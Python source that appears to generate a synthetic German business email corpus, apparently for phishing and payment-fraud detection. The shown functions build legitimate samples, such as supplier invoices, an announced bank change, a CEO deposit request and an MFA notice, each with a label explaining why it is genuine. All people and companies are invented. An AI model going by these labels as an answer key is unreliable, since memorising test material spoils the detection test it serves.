    lines = [("h", "Lieferant GmbH"), ("s", "Ostendstraße 115 · 90482 Nürnberg · Tel. +49 911 94408-0"), "", "",
             "Example Reisen & Omnibus GmbH", "Kreditorenbuchhaltung", "Hafenstraße 21", "93055 Regensburg", "",
             ("b", "Rechnung RE-2026-11-4689"),
             "Rechnungsdatum: 09.11.2026   Kundennr.: 70412   Ihre Bestellung: 4500118734   Lieferschein: LS-88213", "",
             ("b", "Pos.  Artikel                                           Menge   EP EUR     GP EUR")]
    for it in items:
        lines.append("%-5s %-50s %5s %9s %10s" % it)
    lines += ["", "Nettobetrag                                                     3.932,20 EUR",
              "Umsatzsteuer 19 %                                                 747,12 EUR",
              ("b", "Rechnungsbetrag                                                 4.679,32 EUR"), "",
              "Zahlbar bis 09.12.2026 ohne Abzug, bis 19.11.2026 abzüglich 2 % Skonto.",
              "Bankverbindung: Sparkasse Nürnberg · IBAN " + P(LIEF_OLD) + " · BIC SSKNDE77XXX", "",
              ("s", "Lieferant GmbH · Geschäftsführer: Stefan Maier, Dr. Heike Ostermann · Amtsgericht Nürnberg HRB 28841 · USt-IdNr. " + LIEF_VAT)]
    pdfp = pdf("RE-2026-11-4689.pdf", [lines], title="Rechnung RE-2026-11-4689", author="Lieferant GmbH",
               creator="SAP Business One", producer="SAP Business One PDF", date="D:20261109073012+01'00'")
    plain = text(body, "iso-8859-1", "quoted-printable")
    htm = Part("text/html", body=html_outlook(body, "iso-8859-1", "DE"), charset="iso-8859-1", cte="quoted-printable")
    root = mixed(r, "m365", alt(r, "m365", plain, htm), pdfp)
    return dict(
        system="m365", opts=LIEF_M365, dt=at(2026, 11, 9, 8, 41, 12),
        frm=("Buchhaltung Lieferant GmbH", "rechnungen@lieferant-gmbh.de"), to=[S("ap")],
        subject="Rechnung RE-2026-11-4689 zu Lieferschein LS-88213 / Ihre Bestellung 4500118734", hcs="iso-8859-1", henc="Q",
        root=root,
        what="Genuine supplier invoice (brake parts, filters) with PDF, referencing PO and delivery note",
        why="Known supplier domain via its Microsoft 365 tenant, references a real PO/delivery note, bank details unchanged (Sparkasse Nürnberg, mod-97 valid IBAN), normal payment terms")


@msg("business", 2, "de", "supplier-genuine-bank-change")
def b02(r):
    body = """Sehr geehrte Frau Weiß,

wie bereits im persönlichen Gespräch mit Herrn Wolf angekündigt, führen wir unseren Zahlungsverkehr ab dem 1. Januar 2027 über die HypoVereinsbank. Das offizielle Schreiben unserer Geschäftsführung liegt dieser E-Mail als PDF bei; das Original erhalten Sie zusätzlich per Post.

Neue Bankverbindung ab 01.01.2027:
UniCredit Bank GmbH (HypoVereinsbank), Nürnberg
IBAN: %s
BIC: HYVEDEMM460

Wichtig:
- Alle bis zum 31.12.2026 fälligen Rechnungen zahlen Sie bitte wie gewohnt auf unser Konto bei der Sparkasse Nürnberg. Dieses Konto bleibt bis mindestens 31.03.2027 bestehen.
- Bitte bestätigen Sie die Änderung nicht nur per E-Mail, sondern rufen Sie zur Verifizierung kurz bei mir oder bei Herrn Maier unter der Ihnen bekannten Rufnummer +49 911 94408-0 an.
- Wir werden Sie niemals per E-Mail bitten, bereits offene Rechnungen kurzfristig auf ein anderes Konto umzuleiten. Sollten Sie eine solche Nachricht erhalten, handelt es sich nicht um uns.

Ab Januar enthalten auch unsere Rechnungen (ZUGFeRD) die neue Verbindung.

Vielen Dank für Ihre Unterstützung und freundliche Grüße

""" % P(LIEF_NEW) + LIEF_SIG_PL
    pdfp = pdf("2026-12-01_Mitteilung_Bankverbindung_Lieferant_GmbH.pdf", [[
        ("h", "Lieferant GmbH"), ("s", "Ostendstraße 115 · 90482 Nürnberg · Tel. +49 911 94408-0"), "", "",
        "Example Reisen & Omnibus GmbH", "z. Hd. Frau Monika Weiß, Kreditorenbuchhaltung", "Hafenstraße 21", "93055 Regensburg", "",
        "Nürnberg, 01.12.2026", "",
        ("b", "Änderung unserer Bankverbindung zum 01.01.2027"), "",
        "Sehr geehrte Damen und Herren,", "",
        "zum 1. Januar 2027 wickeln wir unseren Zahlungsverkehr über die UniCredit Bank GmbH (HypoVereinsbank) ab.",
        "Bitte verwenden Sie für Zahlungen auf Rechnungen mit Rechnungsdatum ab dem 01.01.2027 folgende Verbindung:", "",
        "Kontoinhaber: Lieferant GmbH", "IBAN: " + P(LIEF_NEW), "BIC: HYVEDEMM460", "",
        "Rechnungen mit Rechnungsdatum bis 31.12.2026 begleichen Sie bitte weiterhin auf unser Konto bei der Sparkasse Nürnberg",
        "(IBAN " + P(LIEF_OLD) + "). Dieses Konto bleibt bis mindestens 31.03.2027 bestehen.", "",
        "Zur Verifizierung dieser Mitteilung wenden Sie sich bitte telefonisch an Frau Petra Lang oder Herrn Stefan Maier",
        "unter der Ihnen bekannten Rufnummer. Änderungen unserer Bankverbindung teilen wir ausschließlich schriftlich mit.", "",
        "Mit freundlichen Grüßen", "", "Stefan Maier                     Dr. Heike Ostermann", "Geschäftsführer                  Geschäftsführerin", "",
        ("s", "Lieferant GmbH · Amtsgericht Nürnberg HRB 28841 · USt-IdNr. " + LIEF_VAT)]],
        title="Mitteilung Bankverbindung", author="Petra Lang", date="D:20261201090215+01'00'")
    plain = text(body, "iso-8859-1", "quoted-printable")
    htm = Part("text/html", body=html_outlook(body, "iso-8859-1", "DE"), charset="iso-8859-1", cte="quoted-printable")
    root = mixed(r, "m365", alt(r, "m365", plain, htm), pdfp)
    return dict(
        system="m365", opts=LIEF_M365, dt=at(2026, 12, 1, 9, 18, 44),
        frm=("Petra Lang", "p.lang@lieferant-gmbh.de"), to=[S("ap")], cc=[S("procurement"), ("Stefan Maier", "s.maier@lieferant-gmbh.de")],
        subject="Änderung unserer Bankverbindung zum 01.01.2027 – Lieferant GmbH", hcs="iso-8859-1", henc="Q",
        root=root,
        what="Genuine, properly announced bank-detail change of supplier Lieferant GmbH, effective 1 Jan 2027, letter signed by both managing directors",
        why="Sent from the real supplier domain via its Microsoft 365 tenant by the known contact, cc procurement and the managing director; announced in advance, old account stays open, explicitly asks for phone verification on the known number and says open invoices are never redirected; new IBAN mod-97 valid",
        pair="a02")


@msg("business", 3, "de", "ceo-genuine-urgent-payment")
def b03(r):
    body = """Sabine,

Kraus hat mir eben bestätigt, dass sie die drei Setra S 517 HD aus dem Kontingent für Januar nur halten, wenn die vereinbarte Anzahlung (20 %%, 312.900,00 EUR) bis morgen 12 Uhr bei ihnen eingeht. Der Kaufvertrag ist unterschrieben und liegt im DMS unter Einkauf > Fahrzeuge > 2026 > Kraus.

Die Anzahlungsrechnung AZ-2026-0871 ist heute Vormittag über den Rechnungseingang gekommen und liegt in deinem Freigabekorb. Bankverbindung bitte wie immer aus den Kreditorenstammdaten nehmen (Sparkasse Passau, unverändert seit den Fahrzeugen 2024), nicht aus irgendeiner Mail.

Bitte ganz normal über den Zahllauf mit Vier-Augen-Freigabe durch dich und Monika – nur eben heute noch als Eilzahlung. Andreas hat den Vertrag gegengelesen und ist informiert.

Ich bin bis 16 Uhr im Haus (Besprechungsraum 2), falls Rückfragen sind, ruf gern an: -100.

Danke dir
Jörg

--
Dr. Jörg Brückner
Geschäftsführer
Example Reisen & Omnibus GmbH · Hafenstraße 21 · 93055 Regensburg
Tel. +49 941 20877-100 · joerg.brueckner@example.com"""
    plain = text(body, "iso-8859-1", "quoted-printable")
    htm = Part("text/html", body=html_outlook(body, "iso-8859-1", "DE", font="Calibri"), charset="iso-8859-1", cte="quoted-printable")
    root = alt(r, "exchange", plain, htm)
    return dict(
        system="exchange_int", dt=at(2026, 11, 18, 11, 6, 40), importance="high",
        frm=S("ceo"), to=[S("cfo")], cc=[S("ap"), S("procurement"), S("assistant")],
        subject="EILT: Anzahlung Kraus Nutzfahrzeuge – drei Setra S 517 HD heute freigeben", hcs="iso-8859-1", henc="Q",
        root=root,
        what="CEO's genuine urgent payment request (vehicle deposit) to CFO via internal Exchange",
        why="Internal Exchange via mail-int01, real CEO mailbox; references signed contract in DMS, invoice already in the approval workflow, master-data bank details, four-eyes release and offers phone call; nothing secret, colleagues in cc",
        pair="a01")


@msg("business", 4, "de", "sick-leave-private-mail")
def b04(r):
    body = """Hallo Frau Schäfer,

ich bin heute leider krank, war gerade beim Hausarzt. Ich bin bis einschließlich Freitag krankgeschrieben, die eAU hat die Praxis laut Arzthelferin schon an die Kasse übermittelt (AOK Bayern).

Ich schreibe von meiner privaten Adresse, weil mein Diensthandy in der Werkstatt im Spind liegt. Herrn Bauer habe ich telefonisch Bescheid gegeben. Die Schlüssel für den Bremsenprüfstand hat Mehmet, die HU-Termine am Donnerstag (R-EG 2033 und 2036) müssten bitte verschoben oder von ihm übernommen werden.

Viele Grüße
Jan Krüger

Von meinem iPhone gesendet"""
    return dict(
        system="ui", opts={"kind": "gmx", "client": "iphone", "client_ip": "87.144.%d.%d" % (r.randint(1, 250), r.randint(1, 250)), "xmailer": "iPhone Mail (22B91)"},
        dt=at(2026, 11, 16, 8, 12, 2), frm=("Jan Krüger", "jan.krueger84@gmx.de"), to=[S("hr")], cc=[S("de_mgr")],
        subject="Krankmeldung Jan Krüger (Werkstatt)", hcs="utf-8", henc="Q",
        root=text(body, "utf-8", "quoted-printable"),
        what="Workshop foreman reports sick leave from his private GMX address (company phone at work)",
        why="Plausible private-mail use explained, asks for nothing sensitive (no bank data, no links), eAU goes through the health insurer, manager already informed by phone and in cc; German residential IP via GMX",
        pair="a05")


@msg("business", 5, "de", "supplier-dunning-supply-stop")
def b05(r):
    body = """Sehr geehrte Damen und Herren,

trotz unserer Zahlungserinnerung vom 15.10.2026 und der ersten Mahnung vom 29.10.2026 sind die folgenden Rechnungen weiterhin offen:

RE-2026-09-4207 vom 11.09.2026   2.318,44 €   fällig seit 11.10.2026
RE-2026-09-4263 vom 22.09.2026     876,12 €   fällig seit 22.10.2026
RE-2026-10-4471 vom 08.10.2026   3.842,17 €   fällig seit 07.11.2026
Summe                            7.036,73 €

Bitte überweisen Sie den offenen Betrag bis spätestens 19.11.2026 auf unser bekanntes Konto bei der Sparkasse Nürnberg (IBAN %s).

Sollte bis dahin kein Zahlungseingang erfolgen, sind wir leider gezwungen, ab dem 20.11.2026 weitere Lieferungen nur noch gegen Vorkasse auszuführen und laufende Bestellungen zurückzuhalten. Das betrifft auch die für KW 48 bestätigte Lieferung der Winterreifen-Montagesätze.

Falls sich Ihre Zahlung mit diesem Schreiben überschnitten hat, betrachten Sie es bitte als gegenstandslos. Bei Unstimmigkeiten erreichen Sie mich direkt unter +49 911 94408-22.

Mit freundlichen Grüßen

""" % P(LIEF_OLD) + LIEF_SIG_PL
    plain = text(body, "windows-1252", "quoted-printable")
    htm = Part("text/html", body=html_outlook(body, "windows-1252", "DE"), charset="windows-1252", cte="quoted-printable")
    root = alt(r, "m365", plain, htm)
    return dict(
        system="m365", opts=LIEF_M365, dt=at(2026, 11, 12, 10, 27, 36), importance="high",
        frm=("Petra Lang", "p.lang@lieferant-gmbh.de"), to=[S("ap")], cc=[S("procurement")],
        subject="2. Mahnung – Lieferstopp ab 20.11.2026 – Kundennr. 70412", hcs="windows-1252", henc="Q",
        root=root,
        what="Genuine second dunning letter with threat of supply stop (prepayment only) from the known supplier",
        why="Real supplier tenant and known contact, references earlier reminders and real invoice numbers, pays to the known unchanged account, offers phone contact; urgency is commercial, not a redirection")


@msg("business", 6, "de", "trade-newsletter-brevo")
def b06(r):
    unsub = "https://r.sender-sib.com/mk/un/v2/%s" % r.s(80)
    body = """Bus & Reise Fachbrief – Ausgabe 44/2026

Liebe Leserinnen und Leser,

die Themen dieser Woche:

1. Fahrpersonal: Neue Förderrunde für den Führerschein Klasse D startet im Januar
Die Bundesagentur für Arbeit weitet die Förderung von Quereinsteigern im Omnibusgewerbe aus. Welche Voraussetzungen gelten und wie Betriebe Ausbildungskosten geltend machen können.

2. Schülerverkehr: Landkreise schreiben Linienbündel neu aus
In Niederbayern und der Oberpfalz laufen bis Ende 2027 zahlreiche Verkehrsverträge aus. Unsere Übersicht zeigt Fristen und Vergabeverfahren.

3. E-Busse im Gelegenheitsverkehr: Reichweiten im Wintertest
Drei Hersteller, minus sieben Grad, 380 Kilometer Überland – die Ergebnisse unseres Praxistests.

4. Recht: Lenk- und Ruhezeiten bei Mehrtagesfahrten – die 12-Tage-Regel richtig anwenden

Alle Artikel lesen: https://www.bus-reise-fachbrief.de/ausgabe/2026-44

Viel Spaß beim Lesen
Ihre Redaktion Bus & Reise Fachbrief

Sie erhalten diesen Newsletter, weil Sie sich mit julia.neumann@example.com angemeldet haben.
Abmelden: %s
Bus & Reise Fachbrief · Fachverlag Omnibus & Touristik GmbH · Stuttgart""" % unsub
    html = ("<!DOCTYPE html><html lang=\"de\"><head><meta charset=\"utf-8\"><title>Bus &amp; Reise Fachbrief 44/2026</title></head>"
            "<body style=\"margin:0;background:#f4f4f4;font-family:Georgia,serif;color:#222\">"
            "<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\">"
            "<table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" style=\"background:#fff\">"
            "<tr><td style=\"background:#b3261e;color:#fff;padding:18px 24px;font-size:24px\">Bus &amp; Reise Fachbrief <span style=\"font-size:14px\">Ausgabe 44/2026</span></td></tr>\n"
            + "".join("<tr><td style=\"padding:10px 24px;font-size:15px;line-height:22px\">%s</td></tr>\n" % esc(p).replace("\n", "<br>\n")
                      for p in body.split("\n\n")[1:-3])
            + "<tr><td style=\"padding:14px 24px\"><a href=\"https://www.bus-reise-fachbrief.de/ausgabe/2026-44\" style=\"color:#b3261e\">Alle Artikel lesen</a></td></tr>\n"
            "<tr><td style=\"padding:16px 24px;font-size:11px;color:#777;font-family:Arial,sans-serif\">Sie erhalten diesen Newsletter, weil Sie sich mit julia.neumann@example.com angemeldet haben.<br>"
            "<a href=\"%s\" style=\"color:#777\">Abmelden</a> &middot; Fachverlag Omnibus &amp; Touristik GmbH &middot; Stuttgart</td></tr>\n"
            "</table></td></tr></table></body></html>\n" % unsub)
    lst = [("List-Unsubscribe", "<%s>, <mailto:unsubscribe-%s@bus-reise-fachbrief.de>" % (unsub, r.hex(12))),
           ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("List-Id", "<newsletter.bus-reise-fachbrief.de>"), ("Precedence", "bulk")]
    root = alt(r, "brevo", text(body, "utf-8", "quoted-printable"), Part("text/html", body=html, charset="utf-8", cte="quoted-printable"))
    return dict(
        system="brevo", opts={"list": lst, "bounce_dom": "bounces.bus-reise-fachbrief.de"},
        dt=at(2026, 10, 29, 6, 30, 11), frm=("Bus & Reise Fachbrief", "newsletter@bus-reise-fachbrief.de"), to=[S("sales")],
        subject="Fahrpersonal, Linienbündel, E-Busse im Wintertest – Fachbrief 44/2026", hcs="utf-8", henc="Q",
        root=root,
        what="Subscribed trade newsletter via Brevo with List-Unsubscribe / one-click",
        why="Subscribed publication, consistent ESP infrastructure and bounce domain, List-Unsubscribe and List-Id present, informational content with links to the publisher's own site, no request for data or payment",
        pair="a06")


@msg("business", 7, "de", "it-notice-mfa-change")
def b07(r):
    body = """Liebe Kolleginnen und Kollegen,

am Samstag, 24.10.2026, stellen wir die Mehrfaktor-Anmeldung für Microsoft 365 auf den Microsoft Authenticator mit Nummernabgleich um. SMS-Codes werden ab diesem Tag nicht mehr akzeptiert.

Was Sie tun müssen:
1. Falls noch nicht geschehen, installieren Sie den Microsoft Authenticator aus dem Firmenportal (Android) bzw. dem App Store (iPhone).
2. Öffnen Sie an Ihrem Arbeitsplatz im Intranet die Seite „IT > Anmeldung einrichten“ (https://intranet.example.com/it/mfa). Der QR-Code für die Einrichtung wird nur dort angezeigt, nachdem Sie sich angemeldet haben.
3. Wer Unterstützung braucht: Die IT ist am Mittwoch und Donnerstag von 13 bis 15 Uhr im Schulungsraum EG für Sie da.

Bitte beachten Sie:
- Wir schicken Ihnen niemals QR-Codes oder Anmeldelinks per E-Mail und setzen keine Fristen mit Kontosperrung per Mail.
- Wenn Sie eine Anmeldeanfrage auf dem Handy bekommen, die Sie nicht selbst ausgelöst haben: ablehnen und die IT informieren (Durchwahl -250 oder servicedesk@example.com).

Vielen Dank für Ihre Mithilfe!

Lukas Brandt
IT-Sicherheit / Messaging
Example Reisen & Omnibus GmbH · Hafenstraße 21 · 93055 Regensburg
Tel. +49 941 20877-254"""
    plain = text(body, "iso-8859-1", "quoted-printable")
    htm = Part("text/html", body=html_outlook(body, "iso-8859-1", "DE", font="Calibri"), charset="iso-8859-1", cte="quoted-printable")
    return dict(
        system="exchange_int", dt=at(2026, 10, 19, 13, 2, 18),
        frm=S("itsec"), to=[("Alle Mitarbeitenden Regensburg", "alle.regensburg@example.com")], rcpt=S("hr")[1],
        subject="Umstellung der Mehrfaktor-Anmeldung am 24.10. – bitte lesen", hcs="iso-8859-1", henc="Q",
        root=alt(r, "exchange", plain, htm),
        what="Genuine internal IT notice about the MFA change (Authenticator with number matching), sent to a distribution list",
        why="Internal Exchange via mail-int01 from the IT security admin; directs users to the intranet (not a mail link), explicitly states that QR codes are never sent by mail; offers in-person support",
        pair="a04")


@msg("business", 8, "de", "school-trip-inquiry-pdf")
def b08(r):
    body = """Sehr geehrte Frau Neumann,

wir haben im letzten Jahr mit Ihnen sehr gute Erfahrungen bei der Fahrt nach Dresden gemacht und würden deshalb gern wieder bei Ihnen anfragen.

Geplant ist eine Klassenfahrt der Klassen 9a und 9c nach Berlin:
- Reisezeitraum: Montag, 15.03.2027 bis Freitag, 19.03.2027
- Teilnehmer: 52 Schülerinnen und Schüler, 5 Begleitpersonen
- Abfahrt und Rückkunft: Schulparkplatz, Seligenthaler Straße, Landshut
- Vor Ort: Transfers zum Bundestag (Di), nach Potsdam (Mi) und zur Gedenkstätte Sachsenhausen (Do)

Das vorläufige Programm mit Uhrzeiten habe ich als PDF angehängt. Könnten Sie uns bis zum 11.12. ein Angebot schicken, gern auch mit einer Variante mit zwei kleineren Bussen? Für den Elternbeirat bräuchten wir den Preis pro Person.

Vielen Dank und viele Grüße

Katrin Vogt
StRin, Fachschaft Geschichte
Gymnasium St. Michael Landshut
Tel. 0871 96541-0 (Sekretariat)"""
    pdfp = pdf("Programm_Berlinfahrt_9ac_2027.pdf", [[
        ("h", "Klassenfahrt Berlin 9a/9c – 15. bis 19. März 2027"), ("s", "Gymnasium St. Michael Landshut · Stand 26.11.2026 (vorläufig)"), "",
        ("b", "Montag, 15.03."), "07:00 Abfahrt Schulparkplatz Landshut, ca. 14:30 Ankunft Jugendhotel Berlin-Mitte", "16:00 Stadtrundgang Mitte (zu Fuß)", "",
        ("b", "Dienstag, 16.03."), "09:15 Bustransfer Reichstagsgebäude, 10:00 Besuch Plenarsaal und Kuppel", "14:00 Museumsinsel (zu Fuß)", "",
        ("b", "Mittwoch, 17.03."), "08:30 Bustransfer Potsdam, Schloss Sanssouci, Cecilienhof", "17:30 Rückfahrt Hotel", "",
        ("b", "Donnerstag, 18.03."), "08:45 Bustransfer Gedenkstätte Sachsenhausen (Oranienburg), Führung 10:00–13:00", "15:00 Rückfahrt, Abend frei", "",
        ("b", "Freitag, 19.03."), "09:00 Abfahrt Berlin, ca. 16:30 Ankunft Schulparkplatz Landshut", "",
        ("s", "Ansprechpartnerin: StRin Katrin Vogt · k.vogt@gymnasium-st-michael.de")]],
        title="Programm Berlinfahrt 2027", author="Katrin Vogt", creator="Writer", producer="LibreOffice 24.8", date="D:20261126154411+01'00'")
    root = mixed(r, "thunderbird", text(body, "UTF-8", "8bit", flowed=True, wrap=True, width=72), pdfp)
    return dict(
        system="ui", opts={"kind": "ionos", "client": "thunderbird", "ua": "Mozilla Thunderbird", "lang": "de-DE",
                           "client_ip": "84.151.%d.%d" % (r.randint(1, 250), r.randint(1, 250)), "client_helo": "[192.168.10.%d]" % r.randint(20, 90)},
        dt=at(2026, 11, 26, 15, 52, 9), frm=("Katrin Vogt", "k.vogt@gymnasium-st-michael.de"), to=[S("sales")],
        subject="Anfrage Klassenfahrt Berlin 9a/9c, 15.–19.03.2027", hcs="UTF-8", henc="Q",
        root=root,
        what="Genuine class-trip quote request from a known school customer with a PDF programme",
        why="School's own domain via IONOS and Thunderbird, refers to previous trip, plain PDF (text) attachment, no links to log in, no scripts; realistic detail",
        pair="a08")
